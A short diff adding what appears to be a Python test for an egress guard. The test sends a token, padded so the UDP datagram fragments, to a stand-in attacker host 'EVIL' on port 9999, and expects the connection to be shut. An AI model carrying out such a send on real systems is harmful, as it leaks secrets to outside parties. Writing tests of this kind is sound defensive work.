@@ -1,0 +1,11 @@
+"""
+how: a datagram in fragments
+expect: shut
+"""
+
+from land import EVIL
+from sockets import udp
+
+
+def attempt(token):
+    return udp(EVIL, 9999, token.ljust(4000, "."))
